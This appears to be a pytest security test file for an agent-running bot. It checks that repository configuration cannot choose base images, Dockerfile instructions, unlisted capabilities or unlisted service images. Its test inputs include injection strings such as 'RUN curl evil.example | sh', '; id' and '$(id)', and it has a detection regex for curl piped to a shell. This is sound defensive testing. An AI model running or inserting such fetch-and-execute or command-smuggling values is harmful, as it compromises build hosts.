"""Attack class 20: whoever may write a repository's configuration, or move a tag, chooses no image of their own."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from bot.config import fixed_settings
from bot.errors import ConductorError
from bot.images import ImageNeeds, ImageSpec, dockerfile, image_tag, setup_tag
from bot.ports import Installation
from bot.repo_config import parse
from bot.services import services_of
from runners.agents.registry import AGENTS, agent

BASE = ImageSpec(agent="shell", base="debian:bookworm-slim", base_digest="sha256:1", shim="a" * 64)
HOSTILE = "sha256:" + "e" * 64


@pytest.mark.parametrize(
    "text",
    [
        "image: {base: evil.example/base}",
        "image: {dockerfile: Dockerfile}",
        "image: evil.example/agent:latest",
        'image: {capabilities: ["git\\nRUN curl evil.example | sh"]}',
        'image: {capabilities: ["git; curl evil.example"]}',
        'image: {capabilities: ["$(id)"]}',
        "image: {capabilities: {evil: {run: [id]}}}",
    ],
)
def test_20_a_repository_names_no_base_and_no_instruction(text: str) -> None:
    with pytest.raises(ConductorError):
        parse(text)


@pytest.mark.parametrize("name", ["latest", "x", "evil.example/tool", "curl|sh", "../../etc", "node99"])
def test_20_a_capability_that_nobody_listed_is_none(name: str) -> None:
    with pytest.raises(ConductorError):
        replace(BASE, capabilities=frozenset([name]))


def test_20_a_tag_that_was_moved_gives_no_image_that_is_there_already() -> None:
    moved = replace(BASE, base_digest="sha256:2")
    needs = ImageNeeds(setup=("make",), repository=1, mirror=Path("/mirror"), revision="c" * 40)
    assert image_tag(moved) != image_tag(BASE)
    assert setup_tag(moved, needs) != setup_tag(BASE, needs)


@pytest.mark.parametrize("name", sorted(set(AGENTS) - {"q"}))
def test_20_nothing_in_an_image_is_whatever_is_newest(name: str) -> None:
    found = agent(name)
    text = dockerfile(replace(BASE, agent=name, version=found.version))
    assert "latest" not in text
    assert not re.search(r"\b(?:curl|wget)\b[^\n]*\|\s*(?:ba)?sh\b", text)
    if found.version:
        assert found.version in text
        assert image_tag(replace(BASE, agent=name, version=found.version)) != image_tag(
            replace(BASE, agent=name, version=f"{found.version}.1")
        )


def test_20_an_agents_name_or_program_brings_no_instruction_along() -> None:
    for change in (
        {"agent": "shell\nRUN id"},
        {"version": "1.0 && id"},
        {"base": "debian\nRUN id"},
        {"agent": "mine", "installation": Installation(program="x; id", commands=())},
    ):
        with pytest.raises(ConductorError):
            replace(BASE, **change)


@pytest.mark.parametrize(
    "image",
    [
        "evil.example/redis:7",
        "evil.example:5000/library/redis:7",
        "someone/redis:7",
        "redis:8",
        "redis:latest",
        f"redis@{HOSTILE}",
        HOSTILE,
        "redis:7 --privileged",
        "agent-conductor/claude:0123456789ab",
    ],
)
def test_20_a_service_is_only_what_the_operator_lists(image: str) -> None:
    config = parse(f"services: {{cache: {{image: '{image}'}}}}")
    with pytest.raises(ConductorError):
        services_of(config.services, fixed_settings(service_images=("redis:7",)))
    with pytest.raises(ConductorError):
        services_of(config.services, fixed_settings())
